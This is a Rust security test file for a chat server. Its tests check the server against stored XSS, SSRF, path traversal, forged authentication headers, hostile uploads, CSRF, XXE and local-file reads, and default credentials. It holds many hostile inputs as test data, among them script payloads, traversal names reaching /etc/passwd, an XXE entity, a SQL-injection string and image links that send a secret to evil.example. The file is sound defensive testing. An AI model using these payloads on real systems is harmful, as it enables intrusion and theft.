//! Tests named after the classes of docs/SECURITY.md, for what no other file tries.
#![allow(clippy::unwrap_used)]

mod support;

use std::{
    collections::BTreeMap,
    fs,
    io::ErrorKind,
    net::TcpListener,
    path::{Path, PathBuf},
    time::Duration,
};

use app::{
    backend::Backend,
    types::{GenerationStarted, Problem},
};
use axum::body::Body;
use futures_util::future::join_all;
use http::{Request, StatusCode, header};
use image::ImageFormat;
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use serde_json::{Value, json};
use server::web::{
    router::{for_administrators, for_everybody, for_leaders, for_members, for_newcomers, for_people},
    routes::{Route, Routes},
};
use sqlx::{Connection, SqliteConnection, sqlite::SqliteConnectOptions};
use storage::{
    ExchangeTarget, GenerationEnd, GenerationJournal, GenerationState, InvitationKind, NewExchange, NewInvitation,
    NewSession, UserRole,
};
use support::{ADMINISTRATOR, HOST, MEMBER, PASSWORD, Reply, TestApp, encoded, question, red_circle};

/// Something that nobody may ever be shown.
const SECRET: &str = "the zebra crossing at midnight";

const FORM: &str = "application/x-www-form-urlencoded";
const MULTIPART: &str = "multipart/form-data; boundary=border";

/// A request with whatever headers, and nothing else.
async fn send(app: &TestApp, method: &str, path: &str, headers: &[(&str, &str)], body: impl Into<Body>) -> Reply {
    let mut request = Request::builder().method(method).uri(path).header(header::HOST, HOST);
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    app.send(request.body(body.into()).unwrap()).await
}

/// The cookie of a browser that is signed in as `name`, who has an account.
async fn cookie_of(app: &TestApp, name: &str) -> String {
    let user_id = app.storage.account(name).await.unwrap().unwrap().user.id;
    let token = format!("token-of-{name}");
    let session = NewSession { user_id: &user_id, token: &token, browser: "", lifetime_ms: 600_000 };
    app.storage.create_session(session).await.unwrap();
    format!("chaton_session_3000={token}")
}

/// A conversation of one question and the answer `answer`, as if the model had written it.
async fn answered(app: &TestApp, key: &str, answer: &str) -> String {
    let journal = GenerationJournal {
        model_name: "Mini".into(),
        model_hash: "of no model".into(),
        engine_version: "1".into(),
        template: "v3".into(),
        prompt_tokens: vec![1],
        picture_ids: Vec::new(),
        picture_sizes: Vec::new(),
        parameters_json: "{}".into(),
    };
    let exchange = NewExchange {
        owner_id: app.caller.user_id.clone(),
        key: key.into(),
        conversation: ExchangeTarget::New { title: "A title".into() },
        text: "A question".into(),
        picture_ids: Vec::new(),
        picture_detail: storage::PictureDetail::default(),
        journal,
    };
    let begun = app.storage.begin_exchange(exchange).await.unwrap();
    let end = GenerationEnd::without_report(GenerationState::Complete, answer.to_owned());
    assert!(app.storage.finish_generation(&begun.generation_id, end).await.unwrap());
    begun.conversation_id
}

/// Every file below `folder`.
fn files(folder: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() { found.extend(files(&path)) } else { found.push(path) }
    }
    found
}

#[tokio::test(flavor = "multi_thread")]
async fn stored_xss_a_picture_that_is_also_a_page_is_served_as_a_picture_alone() {
    let app = TestApp::new().await;
    let script = b"<html><script>alert(1)</script></html>";
    for (name, picture) in [
        ("page.html", encoded(red_circle(64), ImageFormat::Png)),
        ("picture.svg", encoded(red_circle(64), ImageFormat::Jpeg)),
        ("<script>alert(1)</script>.png", encoded(red_circle(64), ImageFormat::Png)),
    ] {
        let reply = app.upload(name, &[&picture[..], script].concat()).await;
        assert_eq!(reply.status, StatusCode::OK, "{name}: {}", reply.text());
        let kept = reply.picture();
        for path in [kept.url(), kept.thumbnail_url()] {
            let served = app.get(&path).await;
            assert_eq!(served.headers[header::CONTENT_TYPE], "image/png", "{name}");
            assert_eq!(served.headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff", "{name}");
            let policy = served.headers[header::CONTENT_SECURITY_POLICY].to_str().unwrap();
            assert!(policy.contains("default-src 'none'") && policy.contains("sandbox"), "{policy}");
            let has_script = served.body.windows(7).any(|piece| piece == b"<script");
            assert!(!has_script, "{name}: what followed the picture is gone");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn ssrf_addresses_in_words_names_and_files_are_never_fetched() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let app = TestApp::new().await;
    let circle = encoded(red_circle(64), ImageFormat::Png);
    for address in [
        format!("http://127.0.0.1:{port}/picture.png"),
        format!("http://localhost:{port}/picture.png"),
        format!("http://[::ffff:127.0.0.1]:{port}/picture.png"),
        format!("http://2130706433:{port}/picture.png"),
        format!("//127.0.0.1:{port}/picture.png"),
    ] {
        let words = format!("Look at ![a picture]({address}), <img src=\"{address}\"> and {address}");
        let begun = app.ask(question(&words)).await;
        app.ended(&begun.conversation_id).await;
        let conversation = answered(&app, &address, &words).await;
        assert_eq!(app.get(&format!("/c/{conversation}")).await.status, StatusCode::OK);

        assert_eq!(app.upload(&address, &circle).await.status, StatusCode::OK, "as the name of a picture");
        let drawing = format!(
            "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">\
             <image href=\"{address}\" xlink:href=\"{address}\"/></svg>"
        );
        for content in [address.as_bytes(), drawing.as_bytes()] {
            assert_eq!(app.upload("picture.png", content).await.problem(), Problem::PictureUnreadable);
        }
        let mut message = question(&format!("What is at {address}?"));
        message.picture_ids = vec![address.clone()];
        assert_eq!(app.backend.send_message(&app.caller, message).await, Err(Problem::NotFound));
        for field in ["example", "picture_id"] {
            let fields: [(&str, Option<&str>, &[u8]); 4] = [
                ("text", None, b"What is this?"),
                ("image_url", None, address.as_bytes()),
                ("url", None, address.as_bytes()),
                (field, None, address.as_bytes()),
            ];
            assert_eq!(app.post_form("/messages", &fields).await.status, StatusCode::NOT_FOUND, "{field}");
        }
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    let hit = listener.accept().map(|(_, from)| from);
    assert!(matches!(&hit, Err(error) if error.kind() == ErrorKind::WouldBlock), "{hit:?}");
}

/// Names that would lead elsewhere if any of them were a path.
fn hostile_names() -> Vec<String> {
    let mut names = Vec::from(
        [
            "..",
            ".",
            "/",
            "../../secret.txt",
            "..\\..\\secret.txt",
            "/etc/passwd",
            "C:\\secret.txt",
            "....//secret.txt",
            "%2e%2e%2fsecret.txt",
            "..%252fsecret.txt",
            "secret.txt\0.png",
            "\u{202e}gnp.terces",
            "con",
            "~root",
            "chaton.db",
            "file:///etc/passwd",
            "a\r\nb",
            "a\"b",
        ]
        .map(String::from),
    );
    names.push("x".repeat(5_000));
    let parts = ["../", "..\\", "/", "secret.txt", "pictures", "%2e%2e/", "\0", "chaton.db", ".", "é", " "];
    let mut state = 88_172_645_463_325_252_u64;
    for _ in 0..24 {
        let mut name = String::new();
        for _ in 0..6 {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            name.push_str(parts[(state >> 33) as usize % parts.len()]);
        }
        names.push(name);
    }
    names
}

/// Whether a file of the data folder is one that Chaton (or this test) put there on purpose.
fn is_expected(file: &Path) -> bool {
    let is_hexadecimal = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_hexdigit());
    let parts: Vec<&str> = file.iter().map(|part| part.to_str().unwrap()).collect();
    match &parts[..] {
        ["secret.txt" | "lock" | "chaton.db" | "chaton.db-wal" | "chaton.db-shm"] => true,
        ["pictures", folder, name] => {
            let hash = name.strip_suffix(".thumb.png").or(name.strip_suffix(".png"));
            folder.len() == 2 && is_hexadecimal(folder) && hash.is_some_and(is_hexadecimal)
        }
        _ => false,
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn path_traversal_no_name_leads_out_of_the_folder_or_to_its_files() {
    let app = TestApp::new().await;
    let secret = app.folder.path().join("secret.txt");
    fs::write(&secret, SECRET).unwrap();
    let circle = encoded(red_circle(64), ImageFormat::Png);
    let mut taken = 0;
    for name in hostile_names() {
        let uploaded = app.upload(&name, &circle).await;
        assert!(uploaded.status.as_u16() < 500, "{name:?}");
        taken += usize::from(uploaded.status == StatusCode::OK);

        let fields: [(&str, Option<&str>, &[u8]); 2] =
            [("text", None, b"What is this?"), ("example", None, name.as_bytes())];
        let example = app.post_form("/messages", &fields).await;
        assert!(example.status.is_client_error(), "{name:?}: {}", example.status);
        assert!(!example.text().contains(SECRET), "{name:?}");

        let name = utf8_percent_encode(&name, NON_ALPHANUMERIC).to_string();
        for path in [
            format!("/api/pictures/{name}"),
            format!("/api/pictures/{name}/thumbnail"),
            format!("/api/generations/{name}/events"),
            format!("/c/{name}"),
            format!("/pkg/{name}"),
            format!("/examples/{name}"),
            format!("/{name}"),
        ] {
            let reply = app.get(&path).await;
            assert!(reply.status.as_u16() < 500 && !reply.text().contains(SECRET), "{path}: {}", reply.status);
            let is_api = path.starts_with("/api/");
            assert!(!is_api || reply.status.is_client_error(), "{path}: {}", reply.status);
        }
    }
    assert!(taken > 15, "most names are only unusual: {taken}");
    for path in ["/api/pictures/../../secret.txt", "/pkg/../../../secret.txt", "/../secret.txt", "/./secret.txt"] {
        assert!(!app.get(path).await.text().contains(SECRET), "{path}");
    }
    for file in files(app.folder.path()) {
        let file = file.strip_prefix(app.folder.path()).unwrap();
        assert!(is_expected(file), "{}", file.display());
    }
    assert_eq!(fs::read_to_string(&secret).unwrap(), SECRET);
}

#[tokio::test]
async fn missing_authentication_a_token_counts_in_its_cookie_alone() {
    let app = TestApp::team().await;
    let token = "a-session-token";
    let carried = [
        ("authorization", format!("Bearer {token}")),
        ("authorization", format!("Basic {token}")),
        ("x-api-key", token.to_owned()),
        ("x-user", MEMBER.to_owned()),
        ("x-remote-user", ADMINISTRATOR.to_owned()),
        ("remote-user", ADMINISTRATOR.to_owned()),
        ("x-forwarded-user", ADMINISTRATOR.to_owned()),
        ("x-forwarded-email", ADMINISTRATOR.to_owned()),
        ("cookie", format!("session={token}")),
        ("cookie", format!("chaton_session={token}")),
        ("cookie", format!("chaton_session_3001={token}")),
        ("cookie", format!("__Host-chaton_session={token}")),
        ("cookie", format!("chaton_session_3000={}", app.caller.user_id)),
        ("cookie", format!("chaton_session_3000={}", app.caller.session_id)),
    ];
    for (name, value) in &carried {
        for path in ["/", "/settings", "/settings/export", "/api/version", "/administration", "/groups"] {
            let reply = send(&app, "GET", path, &[(*name, value.as_str())], "").await;
            assert_eq!(reply.status, StatusCode::UNAUTHORIZED, "{name}: {value} {path}");
        }
        let reply = send(&app, "POST", "/api/fn/list_conversations", &[(*name, value.as_str())], "{}").await;
        assert_eq!(reply.status, StatusCode::UNAUTHORIZED, "{name}: {value}");
    }
    for path in ["/?key=", "/?token=", "/?session=", "/api/version?key=", "/api/version?access_token="] {
        let reply = send(&app, "GET", &format!("{path}{token}"), &[], "").await;
        assert_eq!(reply.status, StatusCode::UNAUTHORIZED, "{path}");
    }
    assert_eq!(app.get("/api/version").await.status, StatusCode::OK, "in its cookie it does");
}

#[tokio::test(flavor = "multi_thread")]
async fn picture_denial_of_service_hostile_files_at_once_hold_nobody_up() {
    let app = TestApp::new().await;
    let png = encoded(red_circle(64), ImageFormat::Png);
    let jpeg = encoded(red_circle(200), ImageFormat::Jpeg);
    // Headers that claim 50,000 x 50,000 pixels.
    let mut huge_jpeg = jpeg.clone();
    let frame = huge_jpeg.windows(2).position(|pair| pair == [0xff, 0xc0]).unwrap();
    huge_jpeg[frame + 5..frame + 9].copy_from_slice(&[0xc3, 0x50, 0xc3, 0x50]);
    let mut huge_bmp = encoded(red_circle(8), ImageFormat::Bmp);
    huge_bmp[18..22].copy_from_slice(&50_000_u32.to_le_bytes());
    huge_bmp[22..26].copy_from_slice(&50_000_u32.to_le_bytes());

    let taken: [(&str, Vec<u8>); 6] = [
        ("one pixel.png", encoded(image::RgbImage::new(1, 1), ImageFormat::Png)),
        ("line.png", encoded(image::RgbImage::new(1, 20_000), ImageFormat::Png)),
        ("animated.gif", include_bytes!("../../engine/tests/pictures/animated.gif").to_vec()),
        ("animated.webp", include_bytes!("../../engine/tests/pictures/animated.webp").to_vec()),
        ("in truth a WebP.jpg", encoded(red_circle(64), ImageFormat::WebP)),
        ("no extension", png.clone()),
    ];
    let refused: [(&str, Vec<u8>); 6] = [
        ("huge.jpg", huge_jpeg),
        ("huge.bmp", huge_bmp),
        ("truncated.jpg", jpeg[..jpeg.len() / 2].to_vec()),
        ("truncated.png", png[..png.len() / 2].to_vec()),
        ("a header alone.png", png[..33].to_vec()),
        ("in truth an archive.png", b"PK\x03\x04 and so on".to_vec()),
    ];
    let all = || taken.iter().map(|file| (file, true)).chain(refused.iter().map(|file| (file, false)));
    let uploads = join_all(all().map(|((name, content), _)| app.upload(name, content)));
    let (replies, meanwhile) = tokio::join!(uploads, app.get("/api/version"));
    assert_eq!(meanwhile.status, StatusCode::OK);
    for (((name, _), is_taken), reply) in all().zip(&replies) {
        let expected = if is_taken { StatusCode::OK } else { StatusCode::UNPROCESSABLE_ENTITY };
        assert_eq!(reply.status, expected, "{name}: {}", reply.text());
    }
    assert_eq!(app.upload("good.png", &png).await.status, StatusCode::OK, "the next one is taken");
    assert_eq!(app.get("/").await.status, StatusCode::OK);
}

#[cfg(target_os = "linux")]
#[tokio::test]
async fn picture_denial_of_service_a_decoder_that_dies_or_babbles_means_an_unreadable_picture() {
    use server::picture_worker::{PictureWorkerError, decode};

    // Programs in the decoder's place: one ends at once, one says what was not asked.
    for program in ["/bin/false", "/bin/echo"] {
        let outcome = decode(Path::new(program), tempfile::tempfile().unwrap(), 1_000).await;
        assert!(matches!(outcome, Err(PictureWorkerError::Unreadable(_))), "{program}: {outcome:?}");
    }
    let outcome = decode(Path::new("/no/such/program"), tempfile::tempfile().unwrap(), 1_000).await;
    assert!(matches!(outcome, Err(PictureWorkerError::Process(_))), "{outcome:?}");
}

#[cfg(target_os = "linux")]
#[test]
fn picture_denial_of_service_the_decoder_has_little_time_and_memory() {
    // It waits for its picture, which does not come.
    let mut decoder = std::process::Command::new(env!("CARGO_BIN_EXE_chaton"))
        .args(["decode-picture", "--max-pixels", "1000"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let expected = [("Max cpu time", "60"), ("Max core file size", "0"), ("Max address space", "4294967296")];
    let is_limited = |limits: &str| {
        expected.iter().all(|(name, value)| {
            let line = limits.lines().find_map(|line| line.strip_prefix(*name)).unwrap_or_default();
            line.split_whitespace().next() == Some(*value)
        })
    };
    let mut limits = String::new();
    for _ in 0..200 {
        limits = fs::read_to_string(format!("/proc/{}/limits", decoder.id())).unwrap();
        if is_limited(&limits) {
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    decoder.kill().unwrap();
    decoder.wait().unwrap();
    assert!(is_limited(&limits), "{limits}");
}

/// What no page of ours would send.
fn hostile_forms() -> Vec<(&'static str, Vec<u8>)> {
    let long = "x".repeat(20_000);
    let fields = [
        "id",
        "name",
        "role",
        "uses",
        "days",
        "note",
        "token",
        "password",
        "repeated",
        "current",
        "code",
        "session",
        "group_id",
        "user_id",
        "is_leader",
        "retention_days",
        "language",
        "theme",
        "return_to",
        "text",
        "key",
        "mail",
    ];
    let every = |value: &str| {
        let pairs: Vec<String> = fields.iter().map(|field| format!("{field}={value}")).collect();
        pairs.join("&").into_bytes()
    };
    let part =
        |head: &str, content: &str| format!("--border\r\n{head}\r\n\r\n{content}\r\n--border--\r\n").into_bytes();
    vec![
        (FORM, Vec::new()),
        (FORM, b"&&==&%&=".to_vec()),
        (FORM, vec![0xff, 0xfe, 0]),
        (FORM, vec![b'x'; 3_000_000]),
        (FORM, every("")),
        (FORM, every("%ff%00")),
        (FORM, every("-1")),
        (FORM, every("99999999999999999999")),
        (FORM, every("true")),
        (FORM, every("%27+OR+1%3D1+--")),
        (FORM, every(&long)),
        (FORM, b"id=1&id=2&name=a&name=b&text[]=1".to_vec()),
        ("", b"id=1".to_vec()),
        ("text/plain", b"id=1".to_vec()),
        ("application/json", b"{\"id\":null}".to_vec()),
        ("multipart/form-data", b"--border--".to_vec()),
        (MULTIPART, Vec::new()),
        (MULTIPART, b"--border".to_vec()),
        (MULTIPART, vec![0xff; 5_000]),
        (MULTIPART, part("Content-Disposition: form-data", "nameless")),
        (MULTIPART, part("Content-Disposition: attachment; name=\"text\"", &long)),
        (MULTIPART, part("Content-Disposition: form-data; name=\"picture\"; filename=\"\"", "")),
        (MULTIPART, part("Content-Disposition: form-data; name=\"pictures\"; filename=\"../a.png\"", "no picture")),
        (MULTIPART, part("Content-Disposition: form-data; name=\"list\"", "\u{feff}Name;\"\r\n\"\"\"\r\n;;;")),
        (MULTIPART, part(&format!("X-Long: {long}"), "")),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn body_denial_of_service_no_form_brings_the_server_down() {
    let app = TestApp::team().await;
    let cookie = cookie_of(&app, ADMINISTRATOR).await;
    let routes = [for_people(), for_members(), for_leaders(), for_administrators(), for_newcomers()];
    let routes: Vec<Route> = routes
        .into_iter()
        .flat_map(Routes::list)
        // Those are tried in every_route.rs, with distorted JSON.
        .filter(|route| route.method == "POST" && !route.path.starts_with("/api/fn/"))
        .collect();
    assert!(routes.len() > 20, "{routes:?}");
    for route in &routes {
        for (content_type, body) in hostile_forms() {
            let shown = String::from_utf8_lossy(&body[..body.len().min(100)]).into_owned();
            let headers = [("cookie", cookie.as_str()), ("content-type", content_type)];
            let reply = send(&app, "POST", &route.path, &headers, body).await;
            assert!(reply.status.as_u16() < 500, "{route:?} {content_type} {shown}: {} {}", reply.status, reply.text());
        }
    }
    let reply = send(&app, "GET", "/administration", &[("cookie", cookie.as_str())], "").await;
    assert_eq!(reply.status, StatusCode::OK, "the server answers the next request");
    assert!(reply.text().contains(MEMBER), "and nobody is gone");
}

#[tokio::test(flavor = "multi_thread")]
async fn sampling_values_sent_along_change_nothing() {
    let app = TestApp::new().await;
    let extremes = json!({
        "temperature": -1e308, "top_p": 0, "top_k": -1, "max_tokens": u64::MAX, "seed": -1, "stop": [""],
        "n": 1_000_000, "logit_bias": { "1": 1e308 },
    });
    let mut message = serde_json::to_value(question("Hello")).unwrap();
    let mut body = extremes.clone();
    for (name, value) in extremes.as_object().unwrap() {
        message[name] = value.clone();
    }
    body["message"] = message;
    let request = app.request("POST", "/api/fn/send_message").header(header::CONTENT_TYPE, "application/json");
    let reply = app.send(request.body(Body::from(body.to_string())).unwrap()).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text());
    let begun: GenerationStarted = serde_json::from_slice(&reply.body).unwrap();
    app.ended(&begun.conversation_id).await;

    let generation = app.storage.generation(&app.caller.user_id, &begun.generation_id).await.unwrap();
    let used: Value = serde_json::from_str(&generation.journal.parameters_json).unwrap();
    assert_eq!(used["sampling"]["temperature"], json!(0.0), "{used}");
    assert_eq!(used["sampling"]["top_p"], json!(1.0), "{used}");
    assert_eq!((&used["sampling"]["top_k"], &used["max_tokens"]), (&json!(0), &json!(200)), "{used}");
    assert_eq!(used["stop"], json!([]), "{used}");

    for after in ["-9223372036854775808", "9223372036854775807", "99999999999999999999", "-0.5", "none", ""] {
        let reply = app.get(&format!("/api/generations/{}/events?after={after}", begun.generation_id)).await;
        assert!(reply.status.as_u16() < 500, "{after}: {}", reply.status);
    }
}

/// Every row of every table, as SQL would write it.
async fn everything_in(app: &TestApp) -> BTreeMap<String, Vec<String>> {
    let options = SqliteConnectOptions::new().filename(app.folder.path().join("chaton.db"));
    let mut database = SqliteConnection::connect_with(&options).await.unwrap();
    let tables: Vec<String> = sqlx::query_scalar("SELECT name FROM sqlite_schema WHERE type = 'table'")
        .fetch_all(&mut database)
        .await
        .unwrap();
    let mut everything = BTreeMap::new();
    for table in tables {
        let columns: Vec<String> = sqlx::query_scalar("SELECT name FROM pragma_table_info($1)")
            .bind(&table)
            .fetch_all(&mut database)
            .await
            .unwrap();
        let row: Vec<String> = columns.iter().map(|column| format!("quote(\"{column}\")")).collect();
        let query = format!("SELECT {} FROM \"{table}\" ORDER BY 1", row.join(" || ',' || "));
        let rows: Vec<String> = sqlx::query_scalar(sqlx::AssertSqlSafe(query)).fetch_all(&mut database).await.unwrap();
        everything.insert(table, rows);
    }
    everything
}

#[tokio::test(flavor = "multi_thread")]
async fn csrf_get_changes_nothing_on_any_route() {
    let app = TestApp::team().await;
    let picture = app.upload("circle.png", &encoded(red_circle(64), ImageFormat::Png)).await.picture().id;
    let conversation = answered(&app, "a key", "An answer.").await;
    let group = app.storage.add_group("A group", None).await.unwrap();
    app.storage.set_group_member(&group, &app.caller.user_id, true).await.unwrap();
    let invitation = NewInvitation {
        token: "still-open",
        kind: InvitationKind::Join,
        role: UserRole::Member,
        user_id: None,
        group_id: None,
        note: "",
        uses: 1,
        lifetime_ms: 600_000,
    };
    app.storage.invite(invitation).await.unwrap();
    let cookies = [app.cookie.clone(), cookie_of(&app, ADMINISTRATOR).await];

    let circles = [for_people(), for_members(), for_leaders(), for_administrators(), for_newcomers(), for_everybody()];
    let routes: Vec<Route> = circles.into_iter().flat_map(Routes::list).collect();
    assert!(routes.len() > 50, "{}", routes.len());
    let (user, session) = (&app.caller.user_id, &app.caller.session_id);
    // As if what a form or a function takes could be asked for by a link.
    let fields = format!(
        "id={conversation}&title=Changed&text=hello&theme=dark&language=fr&role=guest&name=Eve&password={PASSWORD}&\
         repeated={PASSWORD}&token=still-open&code=still-open&user_id={user}&group_id={group}&session={session}&\
         picture_id={picture}&details=none&delete=1"
    )
    .replace(' ', "+");
    let before = everything_in(&app).await;
    for route in &routes {
        let has_id = route.path.contains("{id}") || route.path.contains(":id");
        for id in [&conversation, &picture].into_iter().take(if has_id { 2 } else { 1 }) {
            let path = route.path.replace("{id}", id).replace(":id", id);
            for (method, cookie) in [("GET", &cookies[0]), ("GET", &cookies[1]), ("HEAD", &cookies[0])] {
                let headers = [("cookie", cookie.as_str()), ("sec-fetch-site", "cross-site")];
                let reply = send(&app, method, &format!("{path}?{fields}"), &headers, "").await;
                assert!(reply.status.as_u16() < 500, "{method} {path}: {} {}", reply.status, reply.text());
                let set = reply.headers.get_all(header::SET_COOKIE);
                let signs_in = set.iter().any(|cookie| cookie.to_str().unwrap().contains("chaton_session"));
                assert!(!signs_in, "{method} {path}");
            }
        }
    }
    for (table, rows) in everything_in(&app).await {
        assert_eq!(Some(&rows), before.get(&table), "{table}");
    }
}

#[tokio::test]
async fn exfiltration_a_picture_in_an_answer_is_a_link_that_nothing_follows() {
    let app = TestApp::new().await;
    let answer = "![x](https://evil.example/?q=secret) ![y](//evil.example/y) <img src=https://evil.example/z> \
                  <link rel=prefetch href=https://evil.example/w>";
    let conversation = answered(&app, "a key", answer).await;
    let page = app.get(&format!("/c/{conversation}")).await;
    let policy = page.headers[header::CONTENT_SECURITY_POLICY].to_str().unwrap();
    assert!(policy.contains("img-src 'self' blob: data:;") && policy.contains("connect-src 'self' blob:;"), "{policy}");
    let names_others = ["http:", "https:", "*"].iter().any(|source| policy.contains(source));
    assert!(policy.contains("default-src 'none'") && !names_others, "{policy}");
    let html = page.text();
    assert!(html.contains("href=\"https://evil.example/?q=secret\""), "a link, to be clicked or not: {html}");
    for loaded in ["src=\"https://evil", "src=\"//evil", "<img src=https://evil", "<link rel=prefetch"] {
        assert!(!html.contains(loaded), "{loaded}");
    }
    assert_eq!(page.headers[header::REFERRER_POLICY], "same-origin", "and where one came from is not told");
}

#[tokio::test(flavor = "multi_thread")]
async fn timing_and_hashes_a_known_hash_opens_nothing() {
    let mut app = TestApp::team().await;
    let circle = encoded(red_circle(64), ImageFormat::Png);
    let mine = app.upload("circle.png", &circle).await.picture();
    let record = app.storage.picture(&app.caller.user_id, &mine.id).await.unwrap();
    let hash = record.blob_hash.clone();
    let file = app.storage.picture_path(&record);
    let file = file.strip_prefix(app.folder.path()).unwrap().display().to_string();
    let administrators = cookie_of(&app, ADMINISTRATOR).await;
    for cookie in [&app.cookie, &administrators] {
        for path in [
            format!("/api/pictures/{hash}"),
            format!("/api/pictures/{hash}/thumbnail"),
            format!("/pictures/{hash}.png"),
            format!("/{file}"),
        ] {
            let reply = send(&app, "GET", &path, &[("cookie", cookie.as_str())], "").await;
            assert_eq!(reply.status, StatusCode::NOT_FOUND, "{path}");
        }
    }
    let mut message = question("What is this?");
    message.picture_ids = vec![hash.clone()];
    assert_eq!(app.backend.send_message(&app.caller, message).await, Err(Problem::NotFound));

    // From here on another person looks.
    app.cookie = administrators;
    let reply = app.upload("circle.png", &circle).await;
    assert!(!reply.text().contains(&hash), "nobody is told a hash");
    let theirs = reply.picture();
    assert_ne!(theirs.id, mine.id);
    assert_eq!(app.get(&theirs.url()).await.status, StatusCode::OK);
    assert_eq!(app.get(&mine.url()).await.status, StatusCode::NOT_FOUND, "the same content opens nothing of another's");
}

#[tokio::test(flavor = "multi_thread")]
async fn local_files_through_svg_and_pdf_nothing_is_read() {
    let app = TestApp::new().await;
    let secret = app.folder.path().join("secret.txt");
    fs::write(&secret, SECRET).unwrap();
    let path = secret.display();
    let hostile = [
        format!("<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"file://{path}\"/></svg>"),
        format!(
            "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file://{path}\">]>\
             <svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>"
        ),
        format!("%PDF-1.7\n1 0 obj << /Type /Filespec /F ({path}) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF"),
        format!("%!PS-Adobe-3.0 EPSF-3.0\n({path}) (r) file 1024 string readstring pop ="),
        format!("push graphic-context\nviewbox 0 0 64 64\nimage over 0,0 0,0 '{path}'\npop graphic-context"),
        format!("#EXTM3U\n#EXTINF:1,\nfile://{path}"),
    ];
    for content in &hostile {
        for name in ["picture.svg", "document.pdf", "picture.png"] {
            let reply = app.upload(name, content.as_bytes()).await;
            assert_eq!(
                (reply.status, reply.problem()),
                (StatusCode::UNPROCESSABLE_ENTITY, Problem::PictureUnreadable),
                "{name}: {content}"
            );
            assert!(!reply.text().contains(SECRET));
        }
    }
    assert!(!app.folder.path().join("pictures").exists(), "nothing was kept of them");
}

#[tokio::test]
async fn weak_start_no_default_credentials_and_no_open_sign_up() {
    let team = TestApp::empty_team().await;
    let usual = [
        ("admin", "admin"),
        ("admin", "password"),
        ("admin", "changeme"),
        ("admin", "123456"),
        ("admin", ""),
        ("administrator", "administrator"),
        ("root", "root"),
        ("root", ""),
        ("user", "user"),
        ("guest", "guest"),
        ("test", "test"),
        ("demo", "demo"),
        ("chaton", "chaton"),
        ("", ""),
    ];
    let form = [("content-type", FORM)];
    for (name, password) in usual {
        let reply = send(&team, "POST", "/sign-in", &form, format!("name={name}&password={password}")).await;
        assert_eq!(reply.status, StatusCode::UNAUTHORIZED, "{name} {password}");
        assert!(!reply.headers.contains_key(header::SET_COOKIE), "{name} {password}");
    }
    let account = "name=Eve&password=an+otter+on+a+bicycle&repeated=an+otter+on+a+bicycle";
    for path in ["/set-up", "/join"] {
        for token in ["", "set-up", "join", "admin", "null", "0"] {
            let reply = send(&team, "POST", path, &form, format!("token={token}&{account}")).await;
            assert_eq!(reply.status, StatusCode::GONE, "{path} {token}");
        }
    }
    for path in ["/sign-up", "/signup", "/register", "/users", "/api/fn/sign_up", "/api/v1/auths/signup"] {
        let reply = send(&team, "POST", path, &form, account).await;
        assert_eq!(reply.status, StatusCode::UNAUTHORIZED, "{path}");
    }
    assert!(team.storage.users().await.unwrap().is_empty(), "nobody has an account");
}
